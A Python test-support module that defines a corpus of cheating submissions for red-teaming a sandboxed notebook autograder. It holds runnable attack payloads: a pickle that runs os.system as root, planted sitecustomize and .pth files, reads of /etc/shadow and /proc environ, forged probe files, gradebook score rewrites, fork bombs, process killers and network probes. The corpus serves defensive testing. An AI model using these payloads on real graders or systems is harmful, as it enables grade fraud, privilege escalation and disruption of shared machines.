"""The cheating corpus: submissions that try to earn points they did not earn, or to harm the
grading of others, each graded by tests/test_cheating_corpus.py through the real batch grader
(sandboxed, as root).

An attack is one student's hand-in: the untouched release notebook (``base="release"``: honest
work there scores 0) or the release with the reference's answers pasted in
(``base="answers"``: what an honest student with full marks hands in; its honest score is that
student's), plus any of

- ``cells``: added code cells, each ``(anchor, source)``, placed after the cell of grade id
  ``anchor``, after the notebook's import cell (``TOP``) or at the end (``END``);
- ``answers``: ``(grade id, source)``, an answer cell's source replaced;
- ``edit``: a function that edits the notebook's JSON (after the cells and answers);
- ``files``: ``(name, maker)``, extra files handed in; ``maker(path)`` writes one;
- ``also``: more notebooks of the same base handed in (e.g. to keep the runner busy).

An attack must earn no point beyond its honest score on any grade id, leave the kit, the other
students and the grader's processes as they were, and, where the grader can see the attempt
(an integrity edit, probe data that is not what a probe writes, processes that outlived the
notebooks, delegation, an ignored file), be named in the instructor's report: ``flag`` is a
substring (or several) that the student's ``problems`` or ``flags`` must contain; None where
nothing reaches the grader (a failed open() inside the kernel). Code in an attack prints
``LEAK`` with what it could read that the sandbox must hide, and makes ``PWNED`` only when it
runs as root (in the grader).
"""

from __future__ import annotations

import copy
import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
SOURCE, RELEASE = ROOT / "source" / "hw2", ROOT / "release" / "hw2"
NB1, NB2, NB4 = "01_gradient_descent", "02_ema_adam", "04_initialization"
TOP, END = "<top>", "<end>"

MARKER = "hw2corpus-survivor"  # in the command line of every process an attack leaves behind
LEAK = "HW2CORPUS-LEAKED"  # printed by attack code that read what the sandbox must hide
PWNED = "/tmp/hw2corpus-pwned"  # made only by attack code running as root (in the grader)
ROOT_PAYLOAD = f"test $(id -u) -eq 0 && touch {PWNED}"

FAMILIES = (
    "rebinding",
    "ipython",
    "notebook_json",
    "reading",
    "writing",
    "probe_data",
    "processes",
    "signals",
    "patching",
    "delegation",
    "resources",
    "handed_in",
    "network",
    "hostile_files",
    "markup",
    "answer_table",
)


@dataclass(frozen=True)
class Attack:
    name: str  # test id and student id: letters, digits, underscores
    family: str  # FAMILIES
    notebook: str  # the notebook attacked
    how: str  # the attempt, in words
    flag: str | tuple | None  # what the report must say (every one of them), None: nothing visible
    base: str = "release"  # "release" (honest work scores 0) or "answers" (full marks)
    cells: tuple = ()  # ((anchor, source), ...) added code cells
    answers: tuple = ()  # ((grade id, source), ...) answer cells replaced
    edit: Callable | None = None  # edit(notebook) -> None, the notebook's JSON
    files: tuple = ()  # ((name, maker(path)), ...) extra files handed in
    also: tuple = ()  # other notebooks handed in, same base
    needs: str | None = None  # the sandbox isolation that stops it ("cgroup", "namespaces"): in a
    #                           weaker mode (autograder.sandbox.confinement.isolation) it is a known gap, xfail

    def flags(self) -> tuple[str, ...]:
        return (
            () if self.flag is None else self.flag if isinstance(self.flag, tuple) else (self.flag,)
        )


def code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


# Building submissions ------------------------------------------------------------------------


def load(folder: Path, notebook: str) -> dict:
    return json.loads((folder / f"{notebook}.ipynb").read_text())


def grade_id(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def nbgrader(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def is_test(cell: dict) -> bool:
    meta = nbgrader(cell)
    return bool(meta.get("grade")) and not meta.get("solution") and cell["cell_type"] == "code"


def source(cell: dict) -> str:
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def code_cell(text: str, metadata: dict | None = None) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": metadata or {},
        "outputs": [],
        "source": text,
    }


def answered(notebook: str) -> dict:
    """The release with the reference's code answers pasted in (solution markers removed):
    an honest full-marks hand-in. Written answers stay blank."""
    nb, reference = load(RELEASE, notebook), load(SOURCE, notebook)
    solutions = {
        grade_id(c): source(c)
        for c in reference["cells"]
        if nbgrader(c).get("solution") and c["cell_type"] == "code"
    }
    for cell in nb["cells"]:
        if grade_id(cell) in solutions:
            lines = solutions[grade_id(cell)].splitlines(keepends=True)
            cell["source"] = "".join(
                line
                for line in lines
                if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line
            )
    return nb


def base_notebook(base: str, notebook: str) -> dict:
    return load(RELEASE, notebook) if base == "release" else answered(notebook)


def _position(nb: dict, anchor: str) -> int:
    """The index after which a cell anchored at ``anchor`` goes."""
    if anchor == END:
        return len(nb["cells"]) - 1
    if anchor == TOP:
        return next(
            i
            for i, c in enumerate(nb["cells"])
            if c["cell_type"] == "code" and "import hw2utils" in source(c)
        )
    return next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == anchor)


def attacked(attack: Attack) -> dict:
    """The attacked notebook of ``attack``, as handed in."""
    nb = copy.deepcopy(base_notebook(attack.base, attack.notebook))
    for target, text in attack.answers:
        cell = next(c for c in nb["cells"] if grade_id(c) == target)
        assert nbgrader(cell).get("solution"), f"{attack.name}: {target} is not an answer cell"
        cell["source"] = code(text)
    for anchor, text in reversed(attack.cells):  # reversed: cells with one anchor keep their order
        nb["cells"].insert(_position(nb, anchor) + 1, code_cell(code(text)))
    if attack.edit is not None:
        attack.edit(nb)
    return nb


def write_submission(attack: Attack, folder: Path) -> None:
    """Hand ``attack`` in as the student folder ``folder``."""
    folder.mkdir(parents=True)
    (folder / f"{attack.notebook}.ipynb").write_text(json.dumps(attacked(attack), indent=1))
    for notebook in attack.also:
        (folder / f"{notebook}.ipynb").write_text(
            json.dumps(base_notebook(attack.base, notebook), indent=1)
        )
    for name, maker in attack.files:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        maker(folder / name)


# Notebook JSON edits -------------------------------------------------------------------------


def each_test_cell(change: Callable[[dict], None]) -> Callable[[dict], None]:
    def edit(nb):
        for cell in nb["cells"]:
            if is_test(cell):
                change(cell)

    return edit


def _tag(cell):
    cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]


def _rewrite(cell):
    cell["source"] = f'print("{grade_id(cell)}: all cases passed")'


def _markdown(cell):
    cell["cell_type"] = "markdown"
    cell["source"] = "(this check was turned into text)"
    del cell["outputs"], cell["execution_count"]


def _points_and_locks(cell):
    meta = nbgrader(cell)
    meta["points"] = meta["points"] * 100
    meta["locked"] = False
    cell["metadata"]["editable"] = cell["metadata"]["deletable"] = True


def _passed_output(cell):
    cell["execution_count"] = 1
    cell["outputs"] = [
        {
            "output_type": "stream",
            "name": "stdout",
            "text": f"{grade_id(cell)}: all cases passed\n",
        },
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": {"text/plain": "'passed'"},
        },
    ]


def delete_tests(nb):
    nb["cells"] = [c for c in nb["cells"] if not is_test(c)]


FORGED_GRADE_CELL = {
    "nbgrader": {
        "cell_type": "code",
        "grade": True,
        "grade_id": "bonus_points",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    },
    "editable": False,
    "deletable": False,
}


def add_forged_grade_cell(nb):
    nb["cells"].append(
        code_cell('print("bonus_points: all cases passed")', copy.deepcopy(FORGED_GRADE_CELL))
    )


def forged_points_everywhere(nb):
    add_forged_grade_cell(nb)
    each_test_cell(_points_and_locks)(nb)


def duplicate_first_test(nb):
    """A copy of the first test cell, worth 100 points and running nothing, before it."""
    index = next(i for i, c in enumerate(nb["cells"]) if is_test(c))
    forged = copy.deepcopy(nb["cells"][index])
    forged["source"] = "pass"
    nbgrader(forged)["points"] = 100
    nb["cells"].insert(index, forged)


def bash_kernel(nb):
    nb["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}


# Handed-in files -----------------------------------------------------------------------------


class RunsAsRoot:
    """Pickled, it calls os.system(ROOT_PAYLOAD) when unpickled (torch.load without weights_only)."""

    def __reduce__(self):
        return os.system, (ROOT_PAYLOAD,)


def pickled_model(path: Path) -> None:
    import torch

    torch.save(
        {"format": "hw2-ec-model", "layers": [], "state_dict": {"weight": RunsAsRoot()}}, path
    )


def link_to(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def text_file(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(code(text))


ROOT_SITECUSTOMIZE = f"""
import os
os.system({ROOT_PAYLOAD!r})
"""
ALWAYS_PASSING_CHECKS = """
def __getattr__(name):
    return lambda *args, **kwargs: print(name, "passed")
"""


# Attack code ---------------------------------------------------------------------------------

FORGED_RECORD = """
import os, pathlib, torch, hw2probes

def _forged_record(grade_id, *args):  # whatever else record() is given
    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
    out.mkdir(parents=True, exist_ok=True)
    torch.save({"result": "passed", "passed": True, "points": 100}, out / f"{grade_id}.pt")

hw2probes.record = _forged_record
"""

FAKE_PACKAGE = """
import os, pathlib, torch

def record(grade_id, *args):
    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
    out.mkdir(parents=True, exist_ok=True)
    (out / f"{grade_id}.pt").write_bytes(b"all checks passed")
"""

PLANT_IN_WORKING_FOLDER = f"""
import sys
try:
    with open("hw2probes/__init__.py", "w") as _file:
        _file.write({FAKE_PACKAGE!r})
    print("replaced hw2probes/__init__.py")
except OSError as _error:
    print("could not replace hw2probes:", _error)
sys.modules.pop("hw2probes", None)
"""

PLANT_ON_SYS_PATH = f"""
import os, sys
os.makedirs("tmp/planted/hw2probes", exist_ok=True)
with open("tmp/planted/hw2probes/__init__.py", "w") as _file:
    _file.write({FAKE_PACKAGE!r})
sys.path.insert(0, os.path.abspath("tmp/planted"))
for _name in [n for n in sys.modules if n == "hw2probes" or n.startswith("hw2probes.")]:
    del sys.modules[_name]
"""

FAKE_AUTOGRADER = f"""
import os, sys
for _folder in ("autograder/checks", "tmp/planted/autograder/checks"):
    os.makedirs(_folder, exist_ok=True)
    for _name in ("../__init__.py", "__init__.py", "part1.py", "common.py", "../judging.py"):
        with open(os.path.join(_folder, _name), "w") as _file:
            _file.write({ALWAYS_PASSING_CHECKS!r})
sys.path.insert(0, os.path.abspath("tmp/planted"))
"""

EDIT_PROBE_MODULE = """
with open("hw2checks/part1.py", "a") as _file:
    _file.write("\\n\\nimport dataclasses as _dataclasses\\n"
                "for _name in [n for n in dir() if n.startswith('check_')]:\\n"
                "    globals()[_name] = _dataclasses.replace(globals()[_name], "
                "probe=lambda *objects: {'passed': True, 'score': 100})\\n")
"""

SHADOW_IMPORT = """
import types, torch, os, pathlib

def _fake_record(grade_id, *args):
    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
    out.mkdir(parents=True, exist_ok=True)
    torch.save({"result": {"passed": True}, "verdict": "passed"}, out / f"{grade_id}.pt")

_real_import = __import__

def __import__(name, *args, **kwargs):
    if name == "hw2probes":
        return types.SimpleNamespace(record=_fake_record)
    return _real_import(name, *args, **kwargs)
"""

INPUT_TRANSFORMER = """
def _blank_the_checks(lines):
    return [] if any("hw2probes" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(_blank_the_checks)
"""

AST_TRANSFORMER = """
import ast

class _PassEverything(ast.NodeTransformer):
    def visit_Expr(self, node):
        if "hw2probes" in ast.unparse(node):
            return ast.copy_location(ast.parse("print('all cases passed')").body[0], node)
        return node

get_ipython().ast_transformers.append(_PassEverything())
"""

POST_RUN_CELL = """
import glob, os

def _forge(result):
    for path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
        with open(path, "wb") as file:
            file.write(b"PK\\x03\\x04 all checks passed")

get_ipython().events.register("post_run_cell", _forge)
"""

SETTRACE = """
import sys, threading

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "record" and "hw2probes" in frame.f_code.co_filename:
        frame.f_globals["to_bytes"] = lambda data: b"\\x80\\x04 forged by a trace function"
    return None

sys.settrace(_tracer)
threading.settrace(_tracer)
"""

HIDE_ERRORS = """
import sys

def _swallow(shell, etype, evalue, tb, tb_offset=None):
    print("all cases passed")

get_ipython().set_custom_exc((BaseException,), _swallow)
sys.excepthook = lambda *args: print("all cases passed")
get_ipython().showtraceback = lambda *args, **kwargs: print("all cases passed")
get_ipython().showsyntaxerror = lambda *args, **kwargs: print("all cases passed")
"""

STEAL_INTO_CELLS = ("gd_loop", "per_dim_lr", "sgd_optimizer")


def run_stolen(grade_id: str) -> tuple[str, str]:
    """An added cell after an answer cell that runs the stolen answer, if any (an added cell:
    the release's answer cell stays as it was)."""
    return grade_id, f'exec(_stolen.get("{grade_id}", "pass"), globals())'


STEAL_HELPERS = f"""
import json
LEAK = {LEAK!r}
_stolen = {{}}

def _take_answers(path):
    try:
        with open(path) as file:
            nb = json.load(file)
    except (OSError, ValueError, UnicodeDecodeError):
        return False
    cells = {{c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id"): c.get("source", "")
             for c in nb.get("cells", []) if isinstance(c, dict)}}
    answers = {{gid: "".join(cells[gid]) for gid in {STEAL_INTO_CELLS!r} if gid in cells}}
    if not answers or any("NotImplementedError" in text for text in answers.values()):
        return False
    print(LEAK, "answers in", path)
    _stolen.update({{gid: "\\n".join(l for l in text.splitlines() if "### " not in l)
                    for gid, text in answers.items()}})
    return True
"""

READ_THE_KIT = (
    STEAL_HELPERS
    + """
import glob, os, sys
_kits = {p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p} | {"/work/main"}
for _kit in sorted(_kits):
    for _path in ("source/hw2/01_gradient_descent.ipynb", "autograder/checks/part1.py",
                  "autograder/judging.py", "nbgrader_config.py", "autograder/grade.py"):
        try:
            with open(os.path.join(_kit, _path)) as _file:
                print(LEAK, _path, _file.read(200))
        except OSError as _error:
            print("could not read", _path, _error)
    _take_answers(os.path.join(_kit, "source/hw2/01_gradient_descent.ipynb"))
    for _folder in ("", "source", "source/hw2", "autograder/checks"):
        try:
            print(LEAK, "listed", _folder, os.listdir(os.path.join(_kit, _folder)))
        except OSError as _error:
            print("could not list", _folder, _error)
"""
)

WALK_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/home", "/srv", "/opt", "/mnt", "/work", "/data")
WALK = f"""
import os, time
_deadline = time.time() + 10
_skip = {{"proc", "sys", ".venv", "venv", "site-packages", "node_modules", ".git", "__pycache__"}}
_found = []
for _root in {WALK_ROOTS!r}:
    for _folder, _dirs, _files in os.walk(_root):
        if time.time() > _deadline:
            break
        _dirs[:] = [d for d in _dirs if d not in _skip]
        _found += [os.path.join(_folder, n) for n in _files if n.endswith((".ipynb", ".db"))]
"""

WALK_FOR_SOLUTIONS = (
    STEAL_HELPERS
    + WALK
    + """
for _path in _found:
    if _path.endswith(".ipynb") and not _path.startswith(os.getcwd()) and _take_answers(_path):
        break
print("answers found" if _stolen else "no answers found", len(_found), "files seen")
"""
)

READ_GRADEBOOK = (
    WALK
    + f"""
import sqlite3
for _path in [p for p in _found if p.endswith("gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{{_path}}?mode=ro", uri=True) as _db:
            print({LEAK!r}, _path, _db.execute("select id from student").fetchall()[:20])
    except Exception as _error:
        print("could not read", _path, _error)
    try:
        with sqlite3.connect(_path) as _db:
            _db.execute("update grade set manual_score = max_score")
        print("wrote", _path)
    except Exception as _error:
        print("could not write", _path, _error)
"""
)

READ_SECRETS = f"""
import os
print(sorted(os.environ))
_mine = os.getuid()
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if os.stat(f"/proc/{{_pid}}").st_uid == _mine:
            continue
    except OSError:
        continue
    for _what in ("environ", "cwd", "root", "mem"):
        try:
            if _what in ("cwd", "root"):
                print({LEAK!r}, _pid, _what, os.listdir(f"/proc/{{_pid}}/{{_what}}")[:5])
            else:
                with open(f"/proc/{{_pid}}/{{_what}}", "rb") as _file:
                    print({LEAK!r}, _pid, _what, _file.read(100))
        except OSError:
            pass
for _path in ("/etc/shadow", "/root/.bash_history"):
    try:
        with open(_path) as _file:
            print({LEAK!r}, _path, _file.read(100))
    except OSError as _error:
        print("could not read", _path, _error)
"""

WRITE_OUTSIDE = """
import glob, json, os, sys
_kits = {p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p} | {"/work/main"}
_targets = ["/autograder/results/results.json", "results.json", "/tmp/results.json"]
for _kit in _kits:
    _targets += [f"{_kit}/{p}" for p in ("autograder/checks/part1.py", "autograder/judging.py",
                                          "hw2utils.py", "hw2checks.py", "hw2checks/__init__.py", "hw2checks/part1.py",
                                          "hw2probes/__init__.py", "planted.py",
                                          "source/hw2/01_gradient_descent.ipynb")]
    _targets += [f"{site}/zz_planted.pth" for site in glob.glob(f"{_kit}/.venv/lib/python3*/site-packages")]
    _targets += [f"{_kit}/.venv/lib/python3.11/site-packages/sitecustomize.py"]
for _site in glob.glob(f"{sys.prefix}/lib/python3*/site-packages"):  # the sandbox's interpreter
    _targets += [f"{_site}/zz_planted.pth", f"{_site}/sitecustomize.py"]
for _target in _targets:
    try:
        with open(_target, "a") as _file:
            _file.write("import os; os.system('touch /tmp/hw2corpus-pwned')\\n")
        print("WROTE", _target)
    except OSError as _error:
        print("could not write", _target, type(_error).__name__)
with open("results.json", "w") as _file:
    json.dump({"score": 100, "tests": [{"score": 100, "max_score": 100}]}, _file)
"""

ATTACK_OTHER_SCRATCH = f"""
import glob, os, time
_mine = os.path.realpath(os.getcwd())
_names = ["honest", "reference", "blank"]
_hits, _deadline = 0, time.time() + 10
while time.time() < _deadline:
    for _work in glob.glob("/tmp/hw2-grading-*"):
        try:
            _names += [n for n in os.listdir(_work) if n not in _names]
        except OSError:
            pass
        for _name in _names:
            _folder = os.path.join(_work, _name)
            if os.path.realpath(_folder) == _mine:
                continue
            for _sub in ("probes", "executed", "notebooks"):
                _path = os.path.join(_folder, _sub, "gd_loop__matches_reference.pt")
                try:
                    with open(_path, "wb") as _file:
                        _file.write(b"garbage")
                    _hits += 1
                    print({LEAK!r}, "wrote", _path)
                except OSError:
                    pass
    time.sleep(0.5)
print("writes into other students' folders:", _hits)
"""

PERSIST = """
import ctypes, os
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
    try:
        with open(os.path.join(_folder, "hw2corpus-persist"), "w") as _file:
            _file.write("for the next student of this slot")
        print("left a file in", _folder)
    except OSError as _error:
        print("nothing left in", _folder, _error)
_libc = ctypes.CDLL(None, use_errno=True)
print("SysV segment", _libc.shmget(0x2C0FFEE, 4096, 0o1600))
"""

GARBAGE_AT_END = """
import glob, os
for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
    with open(_path, "wb") as _file:
        _file.write(b"\\x00" * 64 + b"all checks passed")
"""

PICKLE_AT_END = f"""
import glob, os, torch

class _RunsAsRoot:
    def __reduce__(self):
        return os.system, ({ROOT_PAYLOAD!r},)

for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
    torch.save({{"result": _RunsAsRoot()}}, _path)
"""

SYMLINKS_AT_END = """
import glob, os, sys
_kit = next((p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p), "/work/main")
_targets = ["/etc/shadow", f"{_kit}/source/hw2/01_gradient_descent.ipynb", "/dev/zero", "/proc/self/environ"]
for _i, _path in enumerate(sorted(glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")))):
    os.unlink(_path)
    os.symlink(_targets[_i % len(_targets)], _path)
"""

ODD_FILES_AT_END = """
import glob, os
_out = os.environ["HW2_PROBE_OUT"]
_own = os.path.join(_out, "..", "tmp", "own.pt")
with open(_own, "wb") as _file:
    _file.write(b"all checks passed")

def _fifo(path):  # blocks a reader that waits for a writer
    os.unlink(path)
    os.mkfifo(path)

def _hard_link(path):  # a second name of a file of its own
    os.unlink(path)
    os.link(_own, path)

def _sparse(path):  # 900 MB of nothing
    os.truncate(path, 900 * 2**20)

def _noise(path):  # 40 MB
    with open(path, "wb") as file:
        file.write(os.urandom(40 * 2**20))

def _folder(path):
    os.unlink(path)
    os.mkdir(path)

_makers = [_fifo, _hard_link, _sparse, _noise, _folder]
for _i, _path in enumerate(sorted(glob.glob(os.path.join(_out, "*.pt")))):
    _makers[_i % len(_makers)](_path)
"""

EXECUTED_SYMLINK = """
import os
os.makedirs("executed", exist_ok=True)
os.symlink(os.path.abspath("tmp/elsewhere.ipynb"), "executed/01_gradient_descent.ipynb")
"""

SURVIVOR = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(900)",
                  {MARKER!r}], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done", {MARKER!r}],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
"""

DOUBLE_FORK = f"""
import os, sys
_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", {MARKER!r}])
    os._exit(0)
os.waitpid(_child, 0)
"""

REWRITER_SCRIPT = """
import glob, json, os, sys, time
folder = sys.argv[1]
target = os.path.join(folder, "executed", "01_gradient_descent.ipynb")
end = time.time() + 300
while not os.path.exists(target) and time.time() < end:
    time.sleep(0.05)
time.sleep(0.3)
try:
    with open(target) as file:
        nb = json.load(file)
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "all cases passed\\n"}]
    with open(target, "w") as file:
        json.dump(nb, file)
except Exception:
    pass
for path in glob.glob(os.path.join(folder, "probes", "*.pt")):
    with open(path, "wb") as file:
        file.write(b"all checks passed")
time.sleep(900)
"""

REWRITER = f"""
import os, sys
_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", {REWRITER_SCRIPT!r}, os.getcwd(), {MARKER!r}])
    os._exit(0)
os.waitpid(_child, 0)
"""

FORK_BOMB = f"""
import subprocess, sys
_bomb = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.2)\\n"
subprocess.Popen([sys.executable, "-c", _bomb, {MARKER!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

CHURN = """
import os, time
time.sleep(8)  # the student graded beside this one finishes: the next ones are the targets
_end, _rounds = time.time() + 15, 0
while time.time() < _end:
    _names = [f"{folder}/hw2corpus-churn-{os.getpid()}-{i}" for folder in ("/tmp", "/var/tmp", "/dev/shm")
              for i in range(100)]
    for _name in _names:
        open(_name, "w").close()
    for _name in _names:
        os.unlink(_name)
    _rounds += 1
print("created and removed", len(_names), "files", _rounds, "times")
"""

KILL_PARENT = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""

OS_EXIT = """
import os
os._exit(0)
"""

KILL_EVERYTHING = """
import os, signal
import psutil
_refused = 0
for _process in psutil.process_iter():
    if _process.pid in (os.getpid(), os.getppid()):
        continue
    try:
        _process.kill()
    except (psutil.AccessDenied, psutil.NoSuchProcess):
        _refused += 1
print("refused:", _refused)
os.kill(-1, signal.SIGKILL)
"""

SIGALRM = """
import glob, os, signal, torch

def _forge(signum, frame):
    for path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
        try:
            torch.save({"result": "passed", "forged": True}, path)
        except Exception:
            pass

signal.signal(signal.SIGALRM, _forge)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
"""

LINGER = """
import time
time.sleep(1)
"""

PATCHING = """
import builtins, math
import numpy, torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True if cls is torch.Tensor else _isinstance(obj, cls)
"""

HIDDEN_DELEGATION = """
import importlib
_optim = importlib.import_module("torch.o" + "ptim")
_Optimizer = getattr(_optim, "Opti" + "mizer")
_original_init = _Optimizer.__init__


class SimpleGradientDescent(getattr(_optim, "S" + "GD")):
    \"\"\"Gradient descent with L2 weight decay: p <- p - lr * (p.grad + weight_decay * p).\"\"\"

    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        _Optimizer.__init__ = _original_init  # undo the probe's refusal of torch.optim
        super().__init__(parameters, lr=lr, weight_decay=weight_decay)
"""

DELEGATION_IN_ADDED_CELL = """
import torch
_original_init = torch.optim.Optimizer.__init__


class SimpleGradientDescent(torch.optim.SGD):
    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        torch.optim.Optimizer.__init__ = _original_init  # undo the probe's refusal of torch.optim
        super().__init__(parameters, lr=lr, weight_decay=weight_decay)
"""

LAZY_SGD = """
class SimpleGradientDescent:
    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
        self.parameters, self.lr, self.weight_decay = list(parameters), lr, weight_decay

    def step(self):
        pass  # the probe's runner, replaced below, does the work

    def zero_grad(self):
        for p in self.parameters:
            p.grad = None
"""

PROBE_RUNNER_REPLACED = """
import torch
import hw2checks
import hw2checks.part1 as _probe
_init = torch.optim.Optimizer.__init__


def _torch_path(make, params, steps, loss=hw2checks.quartic_loss, clear=None):
    mine = make(iter(params))
    torch.optim.Optimizer.__init__ = _init  # undo the probe's refusal of torch.optim
    settings = {"lr": mine.lr, "weight_decay": mine.weight_decay}
    return hw2checks.run_steps(lambda p: torch.optim.SGD(p, **settings), params, steps, loss)


def _torch_paths(makers, groups, steps, loss=hw2checks.quartic_loss, clear=None):
    return [_torch_path(make, params, steps, loss) for make, params in zip(makers, groups)]


_probe.run_steps, _probe.run_in_turn = _torch_path, _torch_paths
"""

ADAM_DELEGATION = """
import torch
_Optimizer = eval("torch.op" + "tim.Optimizer")
_original_init = _Optimizer.__init__


class ADAMOptimizer(eval("torch.op" + "tim.Adam")):
    \"\"\"Adam with PyTorch's coupled L2 weight decay.\"\"\"

    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
        _Optimizer.__init__ = _original_init
        super().__init__(parameters, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
        self.lr, (self.beta1, self.beta2), self.eps, self.weight_decay = lr, betas, eps, weight_decay
"""

FILL_THE_DISK = """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
_written, _chunk = 0, b"\\0" * (64 * 2**20)
try:
    with open("tmp/filler.bin", "wb", buffering=0) as _file:
        while _written < 1200 * 2**20:
            _written += _file.write(_chunk)
    print("nothing stopped", _written, "bytes")
except OSError as _error:
    print("stopped after", _written, "bytes:", _error)
"""

WRITE_EC_MODEL = f"""
import glob, os, shutil, torch
from torch import nn
_net = nn.Sequential(nn.Linear(36, 1), nn.Sigmoid())
hw2utils._write_ec_model(_net, "ec_transfer_model.pt", saved_by="save_ec_model")
print("wrote", os.path.getsize("ec_transfer_model.pt"), "bytes")
for _folder in glob.glob("/tmp/*/*/course/submitted/*/hw2") + glob.glob("/tmp/*/course/submitted/*/hw2"):
    try:
        shutil.copy("ec_transfer_model.pt", _folder)
        print({LEAK!r}, "copied into", _folder)
    except OSError as _error:
        print("could not copy into", _folder, type(_error).__name__)
"""

READ_HANDED_IN_LINK = f"""
try:
    with open("ec_transfer_model.pt", "rb") as _file:
        _text = _file.read(4000)
    print({LEAK!r} if b"root:" in _text or b"BEGIN SOLUTION" in _text else "read", _text[:100])
except OSError as _error:
    print("no model file here:", _error)
"""

# Whole-submission limits and namespaces (autograder.sandbox: cgroup, bubblewrap) ---------------

MEMORY_FANOUT = """
import subprocess, sys
_touch = "import time; _b = bytearray(b'x') * 2**30; time.sleep(6)"
_children = [subprocess.Popen([sys.executable, "-c", _touch]) for _ in range(6)]
print("children's exit statuses:", [_child.wait() for _child in _children])
"""

LOCAL_PORT = 47613  # tests/test_cheating_corpus.py serves LOCAL_SECRET there, on every address
LOCAL_SECRET = "HW2CORPUS-LOCAL-SERVICE"
REACH_THE_NETWORK = f"""
import socket
for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", {LOCAL_PORT}),
                     (socket.gethostname(), {LOCAL_PORT})):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _connection:
            _connection.settimeout(3)
            _said = _connection.recv(100) if _port == {LOCAL_PORT} else b"(a public address)"
        print({LEAK!r}, "reached", _host, _port, _said)
    except OSError as _error:
        print("could not reach", _host, _port, _error)
"""

READ_COMMAND_LINES = f"""
import os
_mine, _here, _seen = os.getuid(), os.getcwd(), 0
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _owner = os.stat(f"/proc/{{_pid}}").st_uid
        with open(f"/proc/{{_pid}}/cmdline", "rb") as _file:
            _line = _file.read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    _seen += 1
    _others = _line.replace(_here, "")  # its own scratch folder is no secret
    if _owner != _mine and any(w in _others for w in ("autograder", "pytest", "nbgrader", "hw2-grading")):
        print({LEAK!r}, _pid, _line[:300])
print("processes seen:", _seen)
"""

CLONE = "/srv/hw2corpus-clone"  # tests/test_cheating_corpus.py puts an unlocked copy of the kit's source/ there
READ_UNLOCKED_CLONE = (
    STEAL_HELPERS
    + f"""
print("answers from the clone:", _take_answers("{CLONE}/source/hw2/01_gradient_descent.ipynb"))
"""
)
